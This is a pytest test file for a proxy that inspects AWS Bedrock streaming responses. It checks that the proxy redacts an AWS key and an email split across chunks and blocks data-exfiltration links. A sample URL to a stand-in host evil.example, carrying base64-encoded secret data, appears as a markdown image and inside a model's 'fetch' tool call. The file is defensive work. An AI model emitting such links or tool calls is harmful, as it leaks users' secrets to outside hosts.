"""Answer inspection of Bedrock's binary event streams (issue 19): ConverseStream and
InvokeModelWithResponseStream through a real mitmdump.

A local TLS upstream answers with AWS event-stream bytes the test builds, sent in TCP chunks cut
at odd places (a message spans chunks, a chunk spans messages). The client reads the answer the
way the AWS SDKs do (botocore's EventStreamBuffer): every prelude and message CRC must check out,
an exception message is raised by its type. boto3 is not in the lock, so the reader is written
here from the format (docs.aws.amazon.com, "Event stream encoding").
"""

from __future__ import annotations

import base64
import json
import socket
import ssl
import struct
import threading
import zlib
from http.server import BaseHTTPRequestHandler
from http.server import ThreadingHTTPServer

import pytest

from shadowgate.wireformats.eventstream import decode_event_stream_headers
from tests.support.answer_gates import cert_files
from tests.support.answer_gates import policy_proxy

HOST = "bedrock-runtime.us-east-1.amazonaws.com"
AWS_KEY = "AKIAZ7Q3M5X2R3W4T5YB"
EXFIL = "https://evil.example/p.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4OTBhYmNkZWZnaGlq"
POLICY = "responses: {dlp: redact, exfil_links: block}\n"


def message(headers: dict[str, str], payload: bytes) -> bytes:
    raw = b"".join(
        bytes([len(k)]) + k.encode() + b"\x07" + struct.pack(">H", len(v)) + v.encode() for k, v in headers.items()
    )
    prelude = struct.pack(">II", 16 + len(raw) + len(payload), len(raw))
    prelude += struct.pack(">I", zlib.crc32(prelude))
    body = prelude + raw + payload
    return body + struct.pack(">I", zlib.crc32(body))


def event(kind: str, data: dict) -> bytes:
    headers = {":event-type": kind, ":content-type": "application/json", ":message-type": "event"}
    return message(headers, json.dumps({**data, "p": "abcdefgh"}).encode())


def chunk(model_event: dict) -> bytes:
    return event("chunk", {"bytes": base64.b64encode(json.dumps(model_event).encode()).decode()})


def converse(pieces: list[str]) -> bytes:
    out = event("messageStart", {"role": "assistant"})
    for piece in pieces:
        out += event("contentBlockDelta", {"contentBlockIndex": 0, "delta": {"text": piece}})
    out += event("contentBlockStop", {"contentBlockIndex": 0})
    out += event("messageStop", {"stopReason": "end_turn"})
    return out + event("metadata", {"usage": {"inputTokens": 5, "outputTokens": 7}, "metrics": {"latencyMs": 9}})


def invoke_anthropic(pieces: list[str]) -> bytes:
    out = chunk(
        {"type": "message_start", "message": {"id": "msg_1", "role": "assistant", "usage": {"input_tokens": 5}}}
    )
    out += chunk({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}})
    for piece in pieces:
        out += chunk({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}})
    out += chunk({"type": "content_block_stop", "index": 0})
    out += chunk({"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 7}})
    return out + chunk(
        {"type": "message_stop", "amazon-bedrock-invocationMetrics": {"inputTokenCount": 5, "outputTokenCount": 7}}
    )


class SdkReader:
    """Reads an event stream as botocore does: CRCs verified, exceptions raised."""

    class ChecksumMismatch(Exception):
        pass

    class StreamError(Exception):
        def __init__(self, code: str, message: str) -> None:
            super().__init__(f"{code}: {message}")
            self.code = code

    def __init__(self) -> None:
        self.buf = b""
        self.events: list[tuple[str, dict]] = []

    def feed(self, data: bytes) -> None:
        self.buf += data
        while len(self.buf) >= 12:
            total, headers_len, crc = struct.unpack(">III", self.buf[:12])
            if zlib.crc32(self.buf[:8]) != crc:
                raise self.ChecksumMismatch("prelude")
            if len(self.buf) < total:
                return
            raw, self.buf = self.buf[:total], self.buf[total:]
            if zlib.crc32(raw[:-4]) != struct.unpack(">I", raw[-4:])[0]:
                raise self.ChecksumMismatch("message")
            headers = decode_event_stream_headers(raw[12 : 12 + headers_len])
            payload = json.loads(raw[12 + headers_len : -4] or b"{}")
            if headers[":message-type"] == "exception":
                raise self.StreamError(headers[":exception-type"], payload.get("message", ""))
            self.events.append((headers[":event-type"], payload))

    def finish(self) -> None:
        assert self.buf == b"", "the stream ended inside a message"

    def texts(self) -> str:
        out = []
        for kind, payload in self.events:
            if kind == "contentBlockDelta":
                out.append(payload["delta"].get("text", ""))
            elif kind == "chunk":
                inner = json.loads(base64.b64decode(payload["bytes"]))
                out.append(
                    (inner.get("delta") or {}).get("text", "") if inner.get("type") == "content_block_delta" else ""
                )
        return "".join(out)


class StreamUpstream:
    """Answers every POST with `body`, in TCP writes of `step` bytes (chunked encoding)."""

    def __init__(self, cert_pem: str, key_pem: str) -> None:
        self.body = b""
        self.step = 7
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        context.load_cert_chain(cert_pem, key_pem)
        upstream = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def setup(self) -> None:
                self.request.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                self.request = context.wrap_socket(self.request, server_side=True)
                super().setup()

            def log_message(self, *args) -> None:
                pass

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length") or 0))
                self.send_response(200)
                self.send_header("content-type", "application/vnd.amazon.eventstream")
                self.send_header("transfer-encoding", "chunked")
                self.send_header("connection", "close")
                self.end_headers()
                body, step = upstream.body, upstream.step
                for i in range(0, len(body), step):
                    piece = body[i : i + step]
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
                    self.wfile.flush()
                self.wfile.write(b"0\r\n\r\n")
                self.close_connection = True

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def aws_upstream(test_ca, tmp_path_factory):
    server = StreamUpstream(*cert_files(test_ca, tmp_path_factory.mktemp("awsstream"), HOST))
    yield server
    server.stop()


@pytest.fixture(scope="module")
def gate(tmp_path_factory, upstream, test_ca, aws_upstream):
    proxy = policy_proxy(tmp_path_factory.mktemp("awsgate"), upstream, test_ca, POLICY, aws_upstream.port)
    yield proxy
    proxy.stop()


CONVERSE_PATH = "/model/us.amazon.nova-lite-v1%3A0/converse-stream"
INVOKE_PATH = "/model/anthropic.claude-3-haiku-20240307-v1%3A0/invoke-with-response-stream"
CONVERSE_BODY = {"messages": [{"role": "user", "content": [{"text": "hi"}]}]}
INVOKE_BODY = {
    "anthropic_version": "bedrock-2023-05-31",
    "max_tokens": 50,
    "messages": [{"role": "user", "content": "hi"}],
}


def _call(proxy, user: str, path: str, body: dict) -> SdkReader:
    reader = SdkReader()
    with proxy.client(user) as client:
        with client.stream(
            "POST", f"https://{HOST}{path}", json=body, headers={"authorization": "AWS4-HMAC-SHA256 test"}
        ) as r:
            assert r.status_code == 200
            for data in r.iter_raw():
                reader.feed(data)
    reader.finish()
    return reader


@pytest.mark.parametrize("step", [1, 7, 4096], ids=["byte-by-byte", "odd-chunks", "whole"])
def test_converse_stream_a_secret_split_across_messages_is_redacted(gate, aws_upstream, step):
    aws_upstream.body, aws_upstream.step = (
        converse(["Your key is AKIA", "Z7Q3M5X2", "R3W4T5YB and", " that is all."]),
        step,
    )
    user = f"br-converse-{step}"
    reader = _call(gate, user, CONVERSE_PATH, CONVERSE_BODY)
    assert reader.texts() == "Your key is [AWS_ACCESS_KEY] and that is all."
    assert AWS_KEY not in json.dumps(reader.events)
    assert [k for k, _ in reader.events][-3:] == ["contentBlockStop", "messageStop", "metadata"]
    [row] = gate.rows(f"user_name = '{user}'", expect=1)
    assert (row["response_findings"], row["response_action"]) == ("AWS_ACCESS_KEY:1", "redact")
    assert (row["input_tokens"], row["output_tokens"]) == (5, 7)


def test_invoke_stream_base64_chunks_are_decoded_redacted_and_re_encoded(gate, aws_upstream):
    aws_upstream.body, aws_upstream.step = invoke_anthropic(["mail jane.d", "oe@exam", "ple.com now"]), 5
    reader = _call(gate, "br-invoke", INVOKE_PATH, INVOKE_BODY)
    assert reader.texts() == "mail [EMAIL] now"
    assert "jane" not in json.dumps(reader.events) and "amFuZS5k" not in json.dumps(reader.events)
    [row] = gate.rows("user_name = 'br-invoke'", expect=1)
    assert (row["response_findings"], row["response_action"]) == ("EMAIL:1", "redact")


def test_an_exfiltration_link_cuts_the_stream_with_an_exception_message(gate, aws_upstream):
    aws_upstream.body, aws_upstream.step = converse(["See ![x](", EXFIL[:25], EXFIL[25:], ") and more"]), 3
    reader = SdkReader()
    with gate.client("br-cut") as client:
        with client.stream("POST", f"https://{HOST}{CONVERSE_PATH}", json=CONVERSE_BODY) as r:
            with pytest.raises(SdkReader.StreamError) as raised:
                for data in r.iter_raw():
                    reader.feed(data)
    assert raised.value.code == "modelStreamErrorException" and "withheld" in str(raised.value)
    assert "evil.example" not in json.dumps(reader.events) and "c2VjcmV0" not in json.dumps(reader.events)
    [row] = gate.rows("user_name = 'br-cut'", expect=1)
    assert (row["response_findings"], row["response_action"]) == ("exfil_image:1", "block")


def test_a_message_whose_crc_fails_is_not_passed_on(gate, aws_upstream):
    bad = bytearray(event("contentBlockDelta", {"contentBlockIndex": 0, "delta": {"text": f"key {AWS_KEY}"}}))
    bad[-1] ^= 0xFF  # the message CRC: the proxy cannot trust what it would have to inspect
    aws_upstream.body, aws_upstream.step = (
        event("messageStart", {"role": "assistant"}) + bytes(bad) + converse(["x"]),
        11,
    )
    reader = SdkReader()
    with gate.client("br-crc") as client:
        with client.stream("POST", f"https://{HOST}{CONVERSE_PATH}", json=CONVERSE_BODY) as r:
            with pytest.raises(SdkReader.StreamError):
                for data in r.iter_raw():
                    reader.feed(data)
    [row] = gate.rows("user_name = 'br-crc'", expect=1)
    assert row["response_action"] == "error"


def test_tool_input_carrying_an_exfiltration_url_is_caught(gate, aws_upstream):
    def tool_delta(text: str) -> bytes:
        return event("contentBlockDelta", {"contentBlockIndex": 1, "delta": {"toolUse": {"input": text}}})

    url = json.dumps({"url": EXFIL})
    body = event("messageStart", {"role": "assistant"})
    body += event(
        "contentBlockStart", {"contentBlockIndex": 1, "start": {"toolUse": {"toolUseId": "t1", "name": "fetch"}}}
    )
    body += tool_delta(url[:20]) + tool_delta(url[20:50]) + tool_delta(url[50:])
    body += event("contentBlockStop", {"contentBlockIndex": 1}) + event("messageStop", {"stopReason": "tool_use"})
    aws_upstream.body, aws_upstream.step = body, 9
    with gate.client("br-tool") as client:
        with client.stream("POST", f"https://{HOST}{CONVERSE_PATH}", json=CONVERSE_BODY) as r:
            reader = SdkReader()
            with pytest.raises(SdkReader.StreamError):
                for data in r.iter_raw():
                    reader.feed(data)
    assert "evil.example" not in json.dumps(reader.events)
    [row] = gate.rows("user_name = 'br-tool'", expect=1)
    assert row["response_action"] == "block"
